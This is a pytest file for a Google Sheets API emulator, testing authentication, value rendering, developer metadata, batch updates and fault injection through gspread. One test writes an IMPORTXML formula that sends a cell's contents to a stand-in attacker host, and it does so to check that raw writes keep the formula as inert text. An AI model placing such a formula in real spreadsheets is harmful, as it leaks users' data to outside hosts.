"""The Sheets API emulator, driven through real gspread and google-auth code."""

from __future__ import annotations

import datetime as dt
import json
from pathlib import Path
from typing import Any

import gspread
import pytest
import requests
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from google.auth.exceptions import RefreshError
from google.auth.transport.requests import Request
from google.oauth2.service_account import Credentials
from gspread.http_client import HTTPClient, ParamsType
from gspread.utils import ValueRenderOption

from tests.support.sheets_emulator import ErrorCell, Formula, Percent, SheetsEmulator
from tests.support.sheets_emulator.a1 import Bounds, format_range, parse_range, quote_title
from tests.support.sheets_emulator.formatting import format_number, general

GOOGLE = "https://sheets.googleapis.com"
SCOPES = ["https://www.googleapis.com/auth/spreadsheets"]
KEY = "1okrSheetKey"
KR = "Key Results"
SERVICE_ACCOUNT = "okr-sync@example-project.iam.gserviceaccount.com"  # as tests/sheets_fixtures


class RewritingHTTPClient(HTTPClient):
    """gspread's HTTPClient with Google's host swapped for the emulator (test-only)."""

    base_url = ""

    def request(
        self,
        method: str,
        endpoint: str,
        params: ParamsType | None = None,
        data: bytes | None = None,
        json: Any = None,
        files: Any = None,
        headers: Any = None,
    ) -> requests.Response:
        """Send to the emulator instead of sheets.googleapis.com."""
        endpoint = endpoint.replace(GOOGLE, self.base_url, 1)
        return super().request(method, endpoint, params, data, json, files, headers)


def make_client(emu: SheetsEmulator, key_path: Path, scopes: list[str] = SCOPES) -> gspread.Client:
    """A gspread client with a real service-account credential whose token comes from emu."""
    credentials = Credentials.from_service_account_file(str(key_path), scopes=scopes)
    bound = type("BoundClient", (RewritingHTTPClient,), {"base_url": emu.base_url})
    client = gspread.Client(credentials, http_client=bound)
    client.set_timeout((5, 5))
    return client


def api(client: gspread.Client, method: str, path: str, **kwargs: Any) -> Any:
    """Call an endpoint gspread has no wrapper for (e.g. values:batchUpdateByDataFilter)."""
    url = f"{GOOGLE}/v4/spreadsheets/{KEY}{path}"
    return client.http_client.request(method, url, **kwargs).json()


@pytest.fixture(name="emu")
def _emu(sheets_emulator: SheetsEmulator) -> SheetsEmulator:
    """The emulator holding a small OKR spreadsheet with typed cells."""
    sheets_emulator.create_spreadsheet(
        KEY,
        {
            KR: [
                ["Title", "Start", "Target", "Current", "Progress", "Due"],
                ["Grow visits", 20, 30, 25, Percent(0.5), dt.date(2026, 11, 30)],
                ["Cut cost", 180, 120, Formula("=B3-30", 150), ErrorCell("REF"), None],
                ["Win deals", 0, 10, None, ErrorCell("N_A", message="Loading data"), True],
            ],
            "Objectives": [["Title", "Owner"], ["Traffic", "Sam"]],
        },
    )
    return sheets_emulator


@pytest.fixture(name="client")
def _client(emu: SheetsEmulator, service_account_key: Path) -> gspread.Client:
    """A real gspread client talking to the emulator."""
    return make_client(emu, service_account_key)


def tag_row(client: gspread.Client, row: int, metadata_id: int, value: str) -> dict[str, Any]:
    """Attach row developer metadata (0-based row of Key Results) through :batchUpdate."""
    location = {"dimensionRange": {"sheetId": 0, "dimension": "ROWS", "startIndex": row,
                                   "endIndex": row + 1}}  # fmt: skip
    meta = {"metadataId": metadata_id, "metadataKey": "okr-row", "metadataValue": value,
            "location": location, "visibility": "DOCUMENT"}  # fmt: skip
    result: dict[str, Any] = client.http_client.batch_update(
        KEY, {"requests": [{"createDeveloperMetadata": {"developerMetadata": meta}}]}
    )
    return result


def by_metadata(metadata_id: int, values: list[list[Any]]) -> dict[str, Any]:
    """One DataFilterValueRange keyed by metadataId."""
    data_filter = {"developerMetadataLookup": {"metadataId": metadata_id}}
    return {"dataFilter": data_filter, "majorDimension": "ROWS", "values": values}


# -- auth ----------------------------------------------------------------------------------------


def test_token_endpoint_issues_a_bearer_token_for_a_signed_jwt(
    sheets_emulator: SheetsEmulator, service_account_key: Path
) -> None:
    """A real google-auth refresh posts a signed JWT to /token and gets an access token."""
    credentials = Credentials.from_service_account_file(str(service_account_key), scopes=SCOPES)
    credentials.refresh(Request())
    assert credentials.token.startswith("ya29.")
    assert credentials.service_account_email == SERVICE_ACCOUNT
    (logged,) = sheets_emulator.requests
    assert (logged.method, logged.path, logged.status) == ("POST", "/token", 200)
    assert logged.body["grant_type"] == "urn:ietf:params:oauth:grant-type:jwt-bearer"
    assert sheets_emulator.api_requests == []


def test_token_endpoint_rejects_a_jwt_signed_with_another_key(
    sheets_emulator: SheetsEmulator, tmp_path: Path
) -> None:
    """A JWT whose signature does not match the registered key gets invalid_grant."""
    info = sheets_emulator.service_account(SERVICE_ACCOUNT)
    other = rsa.generate_private_key(public_exponent=65537, key_size=1024)
    info["private_key"] = other.private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
        serialization.NoEncryption(),
    ).decode()  # fmt: skip
    credentials = Credentials.from_service_account_info(info, scopes=SCOPES)
    with pytest.raises(RefreshError, match="invalid_grant"):
        credentials.refresh(Request())
    assert sheets_emulator.requests[-1].status == 400


def test_api_request_without_a_token_is_401_unauthenticated(emu: SheetsEmulator) -> None:
    """No Authorization header: Google's 401 envelope with status UNAUTHENTICATED."""
    response = requests.get(f"{emu.base_url}/v4/spreadsheets/{KEY}", timeout=5)
    assert response.status_code == 401
    error = response.json()["error"]
    assert (error["code"], error["status"]) == (401, "UNAUTHENTICATED")
    assert response.headers["Content-Length"] == str(len(response.content))


def test_open_by_key_maps_404_and_403_like_google(
    emu: SheetsEmulator, client: gspread.Client
) -> None:
    """Unknown key: SpreadsheetNotFound; a sheet not shared with the account: PermissionError."""
    emu.create_spreadsheet("private", {"Sheet1": [["x"]]}, shared_with=["someone@example.com"])
    with pytest.raises(gspread.exceptions.SpreadsheetNotFound):
        client.open_by_key("no-such-key")
    with pytest.raises(PermissionError):
        client.open_by_key("private")
    statuses = [(r.status, r.path) for r in emu.api_requests]
    assert statuses == [(404, "/v4/spreadsheets/no-such-key"), (403, "/v4/spreadsheets/private")]


def test_read_only_token_cannot_write(emu: SheetsEmulator, service_account_key: Path) -> None:
    """A token with only the readonly scope reads, and gets 403 on a write."""
    readonly = make_client(emu, service_account_key, [SCOPES[0] + ".readonly"])
    worksheet = readonly.open_by_key(KEY).sheet1
    assert worksheet.acell("A1").value == "Title"
    with pytest.raises(gspread.exceptions.APIError) as caught:
        worksheet.update([["x"]], "A1")
    assert caught.value.code == 403


# -- the naive gspread pattern ---------------------------------------------------------------------


def test_naive_gspread_pattern_costs_n_plus_two_reads_and_update_cell_makes_a_formula(
    emu: SheetsEmulator, client: gspread.Client
) -> None:
    """open_by_key + worksheets() + get_all_values() per tab, then update_cell (USER_ENTERED)."""
    spreadsheet = client.open_by_key(KEY)
    tabs = spreadsheet.worksheets()
    values = {ws.title: ws.get_all_values() for ws in tabs}
    assert values[KR][1] == ["Grow visits", "20", "30", "25", "50%", "2026-11-30"]
    assert values[KR][2][3:5] == ["150", "#REF!"]
    assert values["Objectives"] == [["Title", "Owner"], ["Traffic", "Sam"]]
    tabs[0].update_cell(4, 4, "=1+1")
    methods = [r.method for r in emu.api_requests]
    assert methods == ["GET", "GET", "GET", "GET", "PUT"]
    assert emu.api_requests[-1].query["valueInputOption"] == ["USER_ENTERED"]
    assert emu.formulas_created_via_api == [(KR, "D4", "=1+1")]
    state = emu.cell(KEY, KR, "D4")
    assert state.user_entered == Formula("=1+1", state.effective)
    assert state.formatted == "#ERROR!"


def test_raw_write_keeps_formula_text_a_string(emu: SheetsEmulator, client: gspread.Client) -> None:
    """RAW stores '=IMPORTXML(...)' as text: no formula is created."""
    worksheet = client.open_by_key(KEY).sheet1
    text = '=IMPORTXML("http://evil.example/?"&A1, "//a")'
    response = worksheet.update([[text, "00123", "50%"]], "A5", raw=True)
    assert response["updatedRange"] == "'Key Results'!A5:C5"
    assert emu.formulas_created_via_api == []
    assert emu.values(KEY, KR)[4] == [text, "00123", "50%"]
    assert worksheet.get("A5", value_render_option=ValueRenderOption.formula) == [[text]]


def test_user_entered_parses_text_as_if_typed(emu: SheetsEmulator, client: gspread.Client) -> None:
    """USER_ENTERED turns numeric text, percents, TRUE and ISO dates into typed values."""
    worksheet = client.open_by_key(KEY).sheet1
    worksheet.update([["1,200", "12.5%", "true", "2026-12-31", "'=literal", "-x"]], "A6", raw=False)
    not_evaluated = ErrorCell("ERROR", "emulator does not evaluate formulas")
    assert emu.values(KEY, KR)[5] == [
        1200, 0.125, True, dt.date(2026, 12, 31), "=literal", not_evaluated]  # fmt: skip
    assert emu.cell(KEY, KR, "B6").formatted == "12.50%"
    assert emu.cell(KEY, KR, "D6").number_format == ("DATE", "yyyy-mm-dd")
    assert emu.formulas_created_via_api == [(KR, "F6", "=-x")]


def test_values_render_options(emu: SheetsEmulator, client: gspread.Client) -> None:
    """UNFORMATTED_VALUE gives numbers, serial dates and error text; FORMULA gives formulas."""
    got = api(client, "get", "/values:batchGet", params={
        "ranges": [f"'{KR}'!A2:F3", f"'{KR}'!F2"], "valueRenderOption": "UNFORMATTED_VALUE",
    })  # fmt: skip
    first, second = got["valueRanges"]
    assert first["range"] == "'Key Results'!A2:F3"
    assert first["values"] == [
        ["Grow visits", 20, 30, 25, 0.5, 46356],
        ["Cut cost", 180, 120, 150, "#REF!"],
    ]
    assert second == {"range": "'Key Results'!F2", "majorDimension": "ROWS", "values": [[46356]]}
    formulas = client.open_by_key(KEY).sheet1.get(
        "D3", value_render_option=ValueRenderOption.formula
    )
    assert formulas == [["=B3-30"]]
    dates = api(client, "get", f"/values/{KR}!F2:F4", params={
        "valueRenderOption": "UNFORMATTED_VALUE", "dateTimeRenderOption": "FORMATTED_STRING",
        "majorDimension": "COLUMNS",
    })  # fmt: skip
    assert dates["values"] == [["2026-11-30", "", True]]


def test_empty_range_omits_values_and_trailing_empties_are_trimmed(
    emu: SheetsEmulator, client: gspread.Client
) -> None:
    """A range with nothing in it has no 'values'; a whole tab stops at its last value."""
    assert api(client, "get", "/values/Objectives!C1:D9") == {
        "range": "Objectives!C1:D9", "majorDimension": "ROWS"}  # fmt: skip
    whole = api(client, "get", "/values/Objectives")
    assert whole["range"] == "Objectives!A1:Z1000"
    assert whole["values"] == [["Title", "Owner"], ["Traffic", "Sam"]]


# -- grid data -------------------------------------------------------------------------------------


def test_grid_data_has_typed_values_formats_and_row_metadata(
    emu: SheetsEmulator, client: gspread.Client
) -> None:
    """spreadsheets.get with grid data: effective values, errors, serial dates, percents."""
    tag_row(client, 1, 7, "kr-visits")
    got = client.http_client.spreadsheets_get(
        KEY, params={"includeGridData": "true", "ranges": [f"'{KR}'!A1:Z"]}
    )
    assert got["properties"]["title"] == "OKRs"
    (sheet,) = got["sheets"]
    assert sheet["properties"] == {
        "sheetId": 0, "title": KR, "index": 0, "sheetType": "GRID",
        "gridProperties": {"rowCount": 1000, "columnCount": 26},
    }  # fmt: skip
    (data,) = sheet["data"]
    assert "startRow" not in data
    assert "startColumn" not in data
    rows = data["rowData"]
    assert len(rows) == 4
    visits = rows[1]["values"]
    assert visits[1]["effectiveValue"] == {"numberValue": 20}
    assert visits[4]["effectiveValue"] == {"numberValue": 0.5}
    assert visits[4]["formattedValue"] == "50%"
    assert visits[4]["effectiveFormat"]["numberFormat"] == {"type": "PERCENT", "pattern": "0%"}
    assert visits[5]["effectiveValue"] == {"numberValue": 46356}
    assert visits[5]["userEnteredFormat"]["numberFormat"]["type"] == "DATE"
    cost = rows[2]["values"]
    assert cost[3]["userEnteredValue"] == {"formulaValue": "=B3-30"}
    assert cost[3]["effectiveValue"] == {"numberValue": 150}
    assert cost[4]["effectiveValue"]["errorValue"]["type"] == "REF"
    assert cost[4]["formattedValue"] == "#REF!"
    assert len(cost) == 5  # trailing empty cells are dropped
    deals = rows[3]["values"]
    assert deals[3] == {}
    assert deals[4]["effectiveValue"]["errorValue"] == {"type": "N_A", "message": "Loading data"}
    assert deals[5]["formattedValue"] == "TRUE"
    assert len(data["rowMetadata"]) == 1000
    assert data["rowMetadata"][0] == {"pixelSize": 21}
    (meta,) = data["rowMetadata"][1]["developerMetadata"]
    assert meta["metadataId"] == 7
    assert meta["location"]["dimensionRange"] == {
        "sheetId": 0, "dimension": "ROWS", "startIndex": 1, "endIndex": 2}  # fmt: skip
    assert len(data["columnMetadata"]) == 26


def test_grid_data_of_a_range_starting_inside_the_sheet(
    emu: SheetsEmulator, client: gspread.Client
) -> None:
    """A range not at A1 reports startRow/startColumn; a bare title means the whole tab."""
    got = client.http_client.spreadsheets_get(
        KEY, params={"includeGridData": "true", "ranges": [f"'{KR}'!B3:C4", "Objectives"]}
    )
    first, second = got["sheets"]
    (data,) = first["data"]
    assert (data["startRow"], data["startColumn"]) == (2, 1)
    assert [c["formattedValue"] for c in data["rowData"][0]["values"]] == ["180", "120"]
    assert len(second["data"][0]["rowMetadata"]) == 1000


# -- developer metadata and DataFilter writes ------------------------------------------------------


def test_data_filter_write_follows_the_row_after_a_human_inserts_rows_above(
    emu: SheetsEmulator, client: gspread.Client
) -> None:
    """The metadata moves with its row; nulls pad to the column and are skipped."""
    reply = tag_row(client, 1, 42, "kr-visits")
    created = reply["replies"][0]["createDeveloperMetadata"]["developerMetadata"]
    assert created["metadataId"] == 42
    emu.insert_rows(KEY, KR, 1, 2, values=[["Human row"]])
    body = {
        "valueInputOption": "RAW",
        "data": [by_metadata(42, [[None, None, None, 27]])],
        "includeValuesInResponse": True,
        "responseValueRenderOption": "UNFORMATTED_VALUE",
    }
    got = api(client, "post", "/values:batchUpdateByDataFilter", json=body)
    (response,) = got["responses"]
    assert response["updatedRange"] == "'Key Results'!A4:D4"
    assert response["updatedData"]["values"][0][:4] == ["Grow visits", 20, 30, 27]
    assert response["dataFilter"] == {"developerMetadataLookup": {"metadataId": 42}}
    assert got["totalUpdatedSheets"] == 1
    assert emu.values(KEY, KR)[3][:4] == ["Grow visits", 20, 30, 27]
    assert emu.values(KEY, KR)[1] == ["Human row"]
    (meta,) = emu.metadata(KEY)
    assert meta["location"]["dimensionRange"]["startIndex"] == 3


def test_data_filter_on_a_deleted_row_fails_the_whole_batch_in_error_mode(
    emu: SheetsEmulator, client: gspread.Client
) -> None:
    """Deleting the row deletes its metadata; the write is refused and nothing is applied."""
    tag_row(client, 1, 42, "kr-visits")
    tag_row(client, 2, 43, "kr-cost")
    emu.delete_rows(KEY, KR, 1, 2)
    assert [m["metadataId"] for m in emu.metadata(KEY)] == [43]
    data = [by_metadata(43, [[None, "changed"]]), by_metadata(42, [["lost"]])]
    body = {"valueInputOption": "RAW", "data": data}
    with pytest.raises(gspread.exceptions.APIError) as caught:
        api(client, "post", "/values:batchUpdateByDataFilter", json=body)
    assert caught.value.code == 400
    assert caught.value.error["status"] == "INVALID_ARGUMENT"
    assert caught.value.error["message"].startswith("Invalid data[1]: ")
    assert emu.values(KEY, KR)[1][1] == 180


def test_data_filter_on_a_deleted_row_is_skipped_in_ignore_mode(
    emu: SheetsEmulator, client: gspread.Client
) -> None:
    """With unmatched_filter='ignore' the entry has no updatedRange; the rest is written."""
    emu.unmatched_filter = "ignore"
    tag_row(client, 1, 42, "kr-visits")
    tag_row(client, 2, 43, "kr-cost")
    emu.delete_rows(KEY, KR, 1, 2)
    data = [by_metadata(43, [[None, "changed"]]), by_metadata(42, [["lost"]])]
    body = {"valueInputOption": "RAW", "data": data}
    got = api(client, "post", "/values:batchUpdateByDataFilter", json=body)
    hit, miss = got["responses"]
    assert hit["updatedRange"] == "'Key Results'!A2:B2"
    assert miss == {"dataFilter": {"developerMetadataLookup": {"metadataId": 42}}}
    assert emu.values(KEY, KR)[1][:2] == ["Cut cost", "changed"]
    assert "lost" not in json.dumps(emu.values(KEY, KR), default=str)


def test_sorting_rows_carries_their_metadata(emu: SheetsEmulator, client: gspread.Client) -> None:
    """A human sort moves whole rows, so metadata still points at the same record."""
    tag_row(client, 1, 42, "kr-visits")
    emu.sort_rows(KEY, KR, 1, 4, 1, descending=True)
    assert [r[0] for r in emu.values(KEY, KR)[1:]] == ["Cut cost", "Grow visits", "Win deals"]
    read = api(client, "post", "/values:batchGetByDataFilter", json={
        "dataFilters": [{"developerMetadataLookup": {"metadataKey": "okr-row",
                                                     "metadataValue": "kr-visits"}}],
        "valueRenderOption": "UNFORMATTED_VALUE",
    })  # fmt: skip
    (found,) = read["valueRanges"]
    assert found["valueRange"]["range"] == "'Key Results'!A3:Z3"
    assert found["valueRange"]["values"][0][0] == "Grow visits"


def test_moving_rows_and_duplicate_metadata_ids(
    emu: SheetsEmulator, client: gspread.Client
) -> None:
    """moveDimension carries metadata; creating an id that exists is a 400."""
    tag_row(client, 1, 42, "kr-visits")
    emu.move_rows(KEY, KR, 1, 2, 4)
    assert emu.metadata(KEY)[0]["location"]["dimensionRange"]["startIndex"] == 3
    with pytest.raises(gspread.exceptions.APIError) as caught:
        tag_row(client, 0, 42, "again")
    assert "createDeveloperMetadata" in caught.value.error["message"]
    deleted = client.http_client.batch_update(KEY, {"requests": [{"deleteDeveloperMetadata": {
        "dataFilter": {"developerMetadataLookup": {"metadataKey": "okr-row"}}}}]})  # fmt: skip
    (gone,) = deleted["replies"][0]["deleteDeveloperMetadata"]["deletedDeveloperMetadata"]
    assert gone["metadataId"] == 42
    assert emu.metadata(KEY) == []


# -- :batchUpdate ----------------------------------------------------------------------------------


def test_batch_update_is_atomic(emu: SheetsEmulator, client: gspread.Client) -> None:
    """One bad request rolls back the ones before it, and names itself in the message."""
    requests_ = [
        {"addSheet": {"properties": {"title": "New"}}},
        {"insertDimension": {"range": {"sheetId": 0, "dimension": "ROWS", "startIndex": 1,
                                       "endIndex": 2}}},
        {"addSheet": {"properties": {"title": "Objectives"}}},
    ]  # fmt: skip
    with pytest.raises(gspread.exceptions.APIError) as caught:
        client.http_client.batch_update(KEY, {"requests": requests_})
    assert caught.value.error["message"] == (
        'Invalid requests[2].addSheet: A sheet with the name "Objectives" already exists. '
        "Please enter another name."
    )
    assert emu.tab_titles(KEY) == [KR, "Objectives"]
    assert emu.values(KEY, KR)[1][0] == "Grow visits"
    del requests_[2]
    got = client.http_client.batch_update(
        KEY, {"requests": requests_, "includeSpreadsheetInResponse": True}
    )
    added, inserted = got["replies"]
    assert added["addSheet"]["properties"]["title"] == "New"
    assert added["addSheet"]["properties"]["gridProperties"] == {
        "rowCount": 1000,
        "columnCount": 26,
    }
    assert inserted == {}
    assert [s["properties"]["title"] for s in got["updatedSpreadsheet"]["sheets"]] == [
        KR, "Objectives", "New"]  # fmt: skip
    assert emu.values(KEY, KR)[1] == []


def test_unknown_request_kind_is_a_400(emu: SheetsEmulator, client: gspread.Client) -> None:
    """A request the emulator does not know is refused like an unknown field."""
    with pytest.raises(gspread.exceptions.APIError, match="Unknown name"):
        client.http_client.batch_update(KEY, {"requests": [{"frobnicate": {}}]})


def test_writes_beyond_the_grid_fail_until_it_grows(
    emu: SheetsEmulator, client: gspread.Client
) -> None:
    """Row 1001 of a 1000-row tab is refused; after updateSheetProperties it is written."""
    worksheet = client.open_by_key(KEY).sheet1
    with pytest.raises(gspread.exceptions.APIError) as caught:
        worksheet.update([["x"]], "A1001")
    assert caught.value.error["message"] == (
        "Range ('Key Results'!A1001) exceeds grid limits. Max rows: 1000, max columns: 26"
    )
    body = {"valueInputOption": "RAW", "data": [{"range": "Objectives!AA1", "values": [[1]]}]}
    with pytest.raises(gspread.exceptions.APIError, match=r"Invalid data\[0\]: Range"):
        client.http_client.values_batch_update(KEY, body)
    grow = {"updateSheetProperties": {
        "properties": {"sheetId": 0, "gridProperties": {"rowCount": 1001, "frozenRowCount": 1}},
        "fields": "gridProperties.rowCount,gridProperties.frozenRowCount"}}  # fmt: skip
    client.http_client.batch_update(KEY, {"requests": [grow]})
    worksheet.update([["x"]], "A1001")
    grid = emu.sheet_properties(KEY, KR)["gridProperties"]
    assert grid == {"rowCount": 1001, "columnCount": 26, "frozenRowCount": 1}
    assert emu.values(KEY, KR)[1000] == ["x"]


def test_cell_and_format_requests(emu: SheetsEmulator, client: gspread.Client) -> None:
    """updateCells, repeatCell with a field mask, mergeCells and a conditional format rule."""
    colour = {"red": 1, "green": 0.8, "blue": 0.8}
    condition = {"type": "NUMBER_LESS", "values": [{"userEnteredValue": "0.3"}]}
    progress = {"sheetId": 0, "startRowIndex": 1, "endRowIndex": 4,
                "startColumnIndex": 4, "endColumnIndex": 5}  # fmt: skip
    boolean_rule = {"condition": condition, "format": {"backgroundColor": colour}}
    rule = {"ranges": [progress], "booleanRule": boolean_rule}
    date = {"numberFormat": {"type": "DATE", "pattern": "yyyy-mm-dd"}}
    text = {"userEnteredValue": {"stringValue": "=not a formula"}}
    row = {
        "values": [text, {"userEnteredValue": {"numberValue": 46388}, "userEnteredFormat": date}]
    }
    header_format = {"backgroundColor": colour, "textFormat": {"bold": True}}
    updates = [
        {"updateCells": {"start": {"sheetId": 0, "rowIndex": 4, "columnIndex": 0}, "rows": [row],
                         "fields": "userEnteredValue,userEnteredFormat.numberFormat"}},
        {"repeatCell": {"range": {"sheetId": 0, "startRowIndex": 0, "endRowIndex": 1},
                        "cell": {"userEnteredFormat": header_format},
                        "fields": "userEnteredFormat(backgroundColor,textFormat)"}},
        {"mergeCells": {"range": {"sheetId": 0, "startRowIndex": 5, "endRowIndex": 6,
                                  "startColumnIndex": 0, "endColumnIndex": 3},
                        "mergeType": "MERGE_ALL"}},
        {"addConditionalFormatRule": {"rule": rule, "index": 0}},
    ]  # fmt: skip
    client.http_client.batch_update(KEY, {"requests": updates})
    assert emu.values(KEY, KR)[4] == ["=not a formula", dt.date(2027, 1, 1)]
    assert emu.formulas_created_via_api == []
    title = emu.cell(KEY, KR, "A1")
    assert title.background_color == colour
    assert title.format["textFormat"] == {"bold": True}
    assert title.user_entered == "Title"
    assert emu.conditional_formats(KEY, KR) == [rule]
    emu.insert_rows(KEY, KR, 0)
    assert emu.merges(KEY, KR)[0]["startRowIndex"] == 6
    assert emu.conditional_formats(KEY, KR)[0]["ranges"][0]["startRowIndex"] == 2


def test_values_batch_update_skips_nulls_and_needs_an_input_option(
    emu: SheetsEmulator, client: gspread.Client
) -> None:
    """Null cells are left alone, "" clears a value but keeps its format; the option is required."""
    with pytest.raises(gspread.exceptions.APIError, match="'valueInputOption' is required"):
        client.http_client.values_batch_update(KEY, {"data": []})
    body = {"valueInputOption": "RAW", "data": [
        {"range": f"'{KR}'!B2:E2", "values": [[None, None, 28, 0.75]]},
        {"range": f"'{KR}'!F2", "values": [[""]]},
    ]}  # fmt: skip
    got = client.http_client.values_batch_update(KEY, body)
    assert got["totalUpdatedCells"] == 5
    assert got["responses"][0]["updatedRange"] == "'Key Results'!B2:E2"
    assert emu.values(KEY, KR)[1] == ["Grow visits", 20, 30, 28, 0.75]
    assert emu.cell(KEY, KR, "E2").formatted == "75%"
    assert emu.cell(KEY, KR, "F2").number_format == ("DATE", "yyyy-mm-dd")
    with pytest.raises(gspread.exceptions.APIError, match="tried writing to column"):
        client.http_client.values_update(
            KEY, "Objectives!A1:B1", params={"valueInputOption": "RAW"},
            body={"values": [[1, 2, 3]]})  # fmt: skip


def test_append_writes_after_the_table(emu: SheetsEmulator, client: gspread.Client) -> None:
    """values:append finds the table's last row and writes below it."""
    worksheet = client.open_by_key(KEY).worksheet("Objectives")
    got = worksheet.append_row(["Pipeline", "Dana"])
    assert got["tableRange"] == "Objectives!A1:B2"
    assert got["updates"]["updatedRange"] == "Objectives!A3:B3"
    assert emu.values(KEY, "Objectives")[2] == ["Pipeline", "Dana"]


# -- faults and hooks ------------------------------------------------------------------------------


def test_injected_429_has_googles_body_and_changes_nothing(
    emu: SheetsEmulator, client: gspread.Client
) -> None:
    """fail_next(429) answers with RESOURCE_EXHAUSTED and Retry-After; the next call works."""
    worksheet = client.open_by_key(KEY).sheet1
    emu.fail_next(429, method="PUT", retry_after=7)
    with pytest.raises(gspread.exceptions.APIError) as caught:
        worksheet.update([["changed"]], "A2")
    error = caught.value
    assert error.code == 429
    assert error.error["status"] == "RESOURCE_EXHAUSTED"
    assert "'Write requests per minute per user'" in error.error["message"]
    (info,) = error.error["details"]
    assert info["reason"] == "RATE_LIMIT_EXCEEDED"
    assert info["metadata"]["quota_metric"] == "sheets.googleapis.com/write_requests"
    assert error.response.headers["Retry-After"] == "7"
    assert emu.values(KEY, KR)[1][0] == "Grow visits"
    worksheet.update([["changed"]], "A2")
    assert emu.values(KEY, KR)[1][0] == "changed"
    emu.fail_next(429)
    with pytest.raises(gspread.exceptions.APIError, match="'Read requests'"):
        worksheet.get("A1")


def test_injected_html_502_is_not_json(emu: SheetsEmulator, client: gspread.Client) -> None:
    """A verbatim HTML body reaches gspread as an APIError with code -1."""
    emu.fail_next(502, body="<html><body>502. That's an error.</body></html>")
    with pytest.raises(gspread.exceptions.APIError) as caught:
        client.open_by_key(KEY)
    assert caught.value.code == -1
    assert caught.value.response.status_code == 502


def test_hang_next_lets_a_client_time_out(emu: SheetsEmulator, client: gspread.Client) -> None:
    """A hung answer trips the client's read timeout; latency delays every API answer."""
    client.set_timeout((1, 0.1))
    emu.hang_next(0.4)
    with pytest.raises(requests.exceptions.ReadTimeout):
        client.open_by_key(KEY)
    client.set_timeout((1, 2))
    emu.latency = 0.01
    assert client.open_by_key(KEY).title == "OKRs"


def test_before_request_simulates_a_human_edit_between_read_and_write(
    emu: SheetsEmulator, client: gspread.Client
) -> None:
    """The hook runs before the write is handled: a row inserted there shifts A1 writes."""
    worksheet = client.open_by_key(KEY).sheet1
    seen: list[str] = []

    def human(request: Any) -> None:
        seen.append(request.method)
        if request.method == "PUT":
            emu.insert_rows(KEY, KR, 1, values=[["Inserted by a person"]])

    emu.before_request(human)
    worksheet.update([["Grow visits!"]], "A2")
    emu.before_request(None)
    worksheet.get("A1")
    assert seen == ["PUT"]
    assert [r[0] for r in emu.values(KEY, KR)[1:3]] == ["Grow visits!", "Grow visits"]


# -- titles and A1 notation ------------------------------------------------------------------------


@pytest.mark.parametrize("title", ["Key Results", "Bob's KRs", "핵심 결과", "Q4", "2026-Q4"])
def test_tab_titles_needing_quotes_round_trip(
    sheets_emulator: SheetsEmulator, service_account_key: Path, title: str
) -> None:
    """Titles with spaces, apostrophes, Korean or cell-like names work through gspread."""
    sheets_emulator.create_spreadsheet(KEY, {"First": [["a"]], title: [["Name"], ["Kim"]]})
    client = make_client(sheets_emulator, service_account_key)
    worksheet = client.open_by_key(KEY).worksheet(title)
    assert worksheet.get_all_values() == [["Name"], ["Kim"]]
    got = worksheet.update([["Lee"]], "A3")
    assert got["updatedRange"] == f"{quote_title(title)}!A3"
    sheets_emulator.rename_tab(KEY, title, title + " (old)")
    with pytest.raises(gspread.exceptions.APIError, match="Unable to parse range"):
        worksheet.get("A1")


def test_a1_parsing_and_formatting() -> None:
    """Quoted titles with '' escapes, open ranges, and Google's quoting on the way out."""
    parsed = parse_range("'Bob''s KRs'!A2:C")
    assert parsed.title == "Bob's KRs"
    assert parsed.bounds == Bounds(1, None, 0, 3)
    assert parse_range("Objectives!2:5").bounds == Bounds(1, 5, None, None)
    assert parse_range("A:C").bounds == Bounds(None, None, 0, 3)
    assert parse_range("B3:A1").bounds == Bounds(0, 3, 0, 2)
    assert parse_range("'Key Results'").bounds is None
    assert parse_range("Objectives").title == "Objectives"
    assert format_range("Sheet1", 0, 1, 26, 27) == "Sheet1!AA1"
    assert format_range("Bob's KRs", 0, 2, 0, 2) == "'Bob''s KRs'!A1:B2"
    assert quote_title("D3") == "'D3'"


def test_number_formatting() -> None:
    """formattedValue for the automatic format, percents, dates and number patterns."""
    assert [general(x) for x in (25, 0.25, 1200, 1 / 3, -2.5)] == [
        "25", "0.25", "1200", "0.3333333333", "-2.5"]  # fmt: skip
    assert format_number(0.255, {"type": "PERCENT", "pattern": "0.0%"}) == "25.5%"
    assert format_number(46356, {"type": "DATE", "pattern": "yyyy-mm-dd"}) == "2026-11-30"
    assert format_number(46356.75, {"type": "DATE_TIME", "pattern": "yyyy-mm-dd hh:mm"}) == (
        "2026-11-30 18:00"
    )
    assert format_number(1234.5, {"type": "NUMBER", "pattern": "#,##0.00"}) == "1,234.50"
